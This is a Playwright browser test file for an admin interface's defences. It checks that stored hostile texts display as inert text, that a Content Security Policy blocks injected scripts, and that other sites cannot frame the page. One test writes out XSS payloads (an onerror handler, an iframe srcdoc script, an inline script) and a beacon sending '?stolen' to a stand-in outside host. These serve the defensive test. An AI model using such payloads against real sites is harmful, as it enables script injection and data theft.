"""Hostile memories: whatever is remembered is shown as text, and does nothing."""

import pytest
from playwright.sync_api import expect

from tests.admin.desk import Desk, hostile

pytestmark = pytest.mark.browser


def test_what_would_run_is_shown_letter_for_letter_and_stays_dead(desk: Desk, space: str) -> None:
    room = desk.client.space(space)
    texts = hostile()
    room.write(
        "mail",
        [
            {"content": text, "speaker": text[:60], "metadata": {"note": text}, "place": text[:60]}
            for text in texts
        ],
        title=texts[0],
    )
    noted = [room.notes.create(text, tags=[text[:40]]).turn for text in texts]

    desk.open("spaces", space, "streams")
    expect(desk.page.get_by_text(texts[0])).to_be_visible()
    for turn in [*room.turns(stream="mail"), *map(room.turn, noted)]:
        desk.open("spaces", space, "streams", turn.stream, turn=turn.id)
        shown = desk.page.locator(f"[id='{turn.id}']")
        expect(shown.locator(".turn-text")).to_have_text(turn.content)
        if turn.id in noted:
            expect(shown.locator(".came li").first).to_contain_text(turn.content)

    desk.check_nothing_ran()
    assert desk.page.locator("#main form").count() == 0


def test_a_script_that_came_into_the_page_all_the_same_would_not_run(desk: Desk) -> None:
    """As if a view had been careless: the policy is the second wall."""
    desk.expects("policy: ")
    desk.expects("Content Security Policy")
    desk.expects("elsewhere.invalid")
    desk.page.evaluate(
        """() => {
          document.getElementById('main').insertAdjacentHTML('beforeend',
            `<img src=x onerror="window.__owned = 1">`
            + `<iframe srcdoc="<script>parent.__owned=2</script>"></iframe>`);
          const script = document.createElement('script');
          script.textContent = 'window.__owned = 3';
          document.body.append(script);
          const beacon = document.createElement('img');
          beacon.src = 'https://elsewhere.invalid/?stolen';
          document.body.append(beacon);
        }"""
    )
    desk.expects("404")  # the picture named x, which is nowhere
    desk.page.wait_for_timeout(300)

    assert desk.page.evaluate("window.__owned") is None
    assert any(trouble.startswith("console: policy: script-src") for trouble in desk.troubles)


def test_no_other_site_can_put_the_page_into_a_frame(desk: Desk) -> None:
    desk.expects("frame-ancestors")
    desk.expects("policy: ")
    desk.expects("X-Frame-Options")
    desk.expects("request: data:")
    desk.page.goto("about:blank")
    desk.page.set_content(f'<iframe src="{desk.address}"></iframe>')
    desk.page.wait_for_timeout(500)

    framed = desk.page.frames[1]

    assert framed.url.startswith("chrome-error:") or framed.locator("#app").count() == 0
